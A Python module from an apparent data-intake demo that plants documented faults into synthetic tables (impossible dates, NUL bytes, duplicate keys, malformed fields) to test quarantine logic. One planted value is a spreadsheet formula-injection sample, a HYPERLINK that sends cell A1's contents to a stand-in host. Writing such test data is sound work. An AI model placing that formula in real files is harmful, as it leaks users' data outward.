"""Why: plants faults that intake must find, at places that are written down.

A fault that ought to send a record to quarantine is planted in a copy of a record with a key of its own, so
that the truth about people is the same with and without it; harmless oddities are planted in records that
stay. Must never plant a fault that isn't reported.
"""

from __future__ import annotations

from dataclasses import dataclass

import numpy as np
import polars as pl

from almoner.demo.chance import Chance
from almoner.demo.layout import PERSON, Layout, Plant, person_columns

RAW = "_raw"
"""Column that names the damage which a writer does to the finished record."""
FAULT = "_fault"

QUARANTINED, ACCEPTED, NOT_DATA = "quarantined", "accepted", "not_data"
EXPECTED = {
    "extra_field": (QUARANTINED, "field_count"),
    "missing_field": (QUARANTINED, "field_count"),
    "stray_footer": (QUARANTINED, "field_count"),
    "undecodable": (QUARANTINED, "undecodable"),
    "nul_byte": (QUARANTINED, "nul_byte"),
    "not_json": (QUARANTINED, "not_json"),
    "not_a_date": (QUARANTINED, "not_a_date"),
    "not_decimal": (QUARANTINED, "not_decimal"),
    "not_integer": (QUARANTINED, "not_integer"),
    "unknown_action": (QUARANTINED, "unknown_action"),
    "key_missing": (QUARANTINED, "key_missing"),
    "duplicate_key": (QUARANTINED, "duplicate_key"),
    "duplicate_row": (QUARANTINED, "duplicate_row"),
    "footer": (NOT_DATA, ""),
    "formula": (ACCEPTED, ""),
    "embedded_newline": (ACCEPTED, ""),
}
"""What intake is expected to do with a record that bears the fault, and the code of the reason."""
RAW_KINDS = ("extra_field", "missing_field", "not_json")
UNDECODABLE = "Caf[undecodable]"
"""Stands for bytes that the file's encoding can't hold, until the writer puts them in."""
_IN_PLACE = {
    "formula": '=HYPERLINK("http://example.invalid/?"&A1,"open")',
    "embedded_newline": "Rear of the shops\nring twice, ask for the caretaker",
}
_IMPOSSIBLE = {
    "yyyy-mm-dd": "2026-02-31",
    "yyyymmdd": "20260231",
    "dd.mm.yyyy": "31.02.2026",
    "dd-mm-yyyy": "31-02-2026",
    "dd-Mon-yyyy": "31-Feb-2026",
}
_SPOILT = {"not_decimal": "n/k", "not_integer": "n/k", "unknown_action": "?"}


@dataclass(frozen=True)
class Planted:
    """One fault at one place. Position counts records from 1, header and title rows not counted."""

    file: str
    sheet: str
    position: int
    fault: str
    column: str

    @property
    def expected(self) -> str:
        """Say what intake is expected to do."""
        return EXPECTED[self.fault][0]

    @property
    def code(self) -> str:
        """Give the code of the reason for which intake is expected to refuse the record."""
        return EXPECTED[self.fault][1]


def plant(
    frame: pl.DataFrame, layout: Layout, month: int, file: str, chance: Chance
) -> tuple[pl.DataFrame, list[Planted]]:
    """Plant the layout's faults into a table; tables of fewer than ten records are left alone.

    Out: the table with the columns RAW and FAULT, and where each fault is.
    """
    frame = frame.with_columns(pl.lit(None, pl.String).alias(RAW), pl.lit(None, pl.String).alias(FAULT))
    every = [p for p in layout.plants if month in p.months] if len(frame) >= 10 else []
    wanted = [p for p in every if p.kind != "stray_footer"]
    spots = _spots(len(frame), len(wanted), chance, month)
    pieces, last = [], 0
    for number, (spot, one) in enumerate(zip(spots, wanted, strict=True)):
        pieces += [frame[last:spot], _faulty(frame, spot, one, layout, f"{month}{number:02d}")]
        last = spot + 1
    pieces.append(frame[last:])
    if len(wanted) < len(every):
        mark = pl.lit("stray_footer")
        pieces.append(_nobody(frame[-1:]).with_columns(mark.alias(RAW), mark.alias(FAULT)))
    frame = pl.concat(pieces)
    columns = {one.kind: one.column for one in every}
    found = [
        Planted(file, layout.sheet, position + 1, fault, columns[fault])
        for position, fault in enumerate(frame[FAULT].to_list())
        if fault
    ]
    return frame, found


def _spots(rows: int, count: int, chance: Chance, month: int) -> list[int]:
    """Choose different rows, in order; the first row is left as it is."""
    if count == 0:
        return []
    scores = chance.uniform(np.arange(1, rows), f"spots {month}")
    return sorted((np.argsort(scores, kind="stable")[:count] + 1).tolist())


def _faulty(frame: pl.DataFrame, spot: int, one: Plant, layout: Layout, number: str) -> pl.DataFrame:
    """Give the row (or rows) that take the place of a row."""
    row = frame[spot : spot + 1]
    if one.kind in _IN_PLACE:
        return row.with_columns(pl.lit(_IN_PLACE[one.kind]).alias(one.column), pl.lit(one.kind).alias(FAULT))
    if one.kind == "duplicate_row":
        return pl.concat([row, _nobody(row).with_columns(pl.lit(one.kind).alias(FAULT))])
    copy = _nobody(row).with_columns(_fresh_key(layout, number), pl.lit(one.kind).alias(FAULT))
    if layout.action:
        copy = copy.with_columns(pl.lit(layout.actions[0]).alias(layout.action))
    if one.kind == "duplicate_key":
        other = copy.with_columns(pl.lit(_other_value(frame[one.column], copy[one.column][0])).alias(one.column))
        return pl.concat([row, copy, other])
    return pl.concat([row, _spoil(copy, one, layout)])


def _spoil(copy: pl.DataFrame, one: Plant, layout: Layout) -> pl.DataFrame:
    if one.kind in RAW_KINDS:
        return copy.with_columns(pl.lit(one.kind).alias(RAW))
    if one.kind == "undecodable":
        return copy.with_columns(pl.lit(one.kind).alias(RAW), pl.lit(UNDECODABLE).alias(one.column))
    if one.kind == "key_missing":
        return copy.with_columns(pl.lit(None, copy.schema[layout.key[0]]).alias(layout.key[0]))
    if one.kind == "nul_byte":
        return copy.with_columns(pl.lit("Not\x00known").alias(one.column))
    value = _impossible_date(layout) if one.kind == "not_a_date" else _SPOILT[one.kind]
    return copy.with_columns(pl.lit(value).alias(one.column))


def _impossible_date(layout: Layout) -> str:
    """Write 31 February in the table's own form."""
    return next((day for form, day in _IMPOSSIBLE.items() if layout.dates.startswith(form)), "31/02/2026")


def _nobody(row: pl.DataFrame) -> pl.DataFrame:
    return row.with_columns(pl.lit(-1, pl.Int64).alias(name) for name in person_columns(row))


def _fresh_key(layout: Layout, number: str) -> pl.Expr:
    """Make a key that no other record has, in the shape of the others."""
    key = pl.col(layout.key[0])
    return pl.concat_str([key, pl.lit("Z" + number)]).alias(layout.key[0])


def _other_value(values: pl.Series, value: object) -> str:
    """Give another value that the column holds, so that nothing but the contradiction is wrong."""
    return next((other for other in values.drop_nulls() if other != value), "otherwise")


def drop_marks(frame: pl.DataFrame) -> pl.DataFrame:
    """Take away what only the demo needs: what is left is what a supplier would deliver."""
    return frame.select(name for name in frame.columns if not name.startswith(PERSON) and name not in (RAW, FAULT))
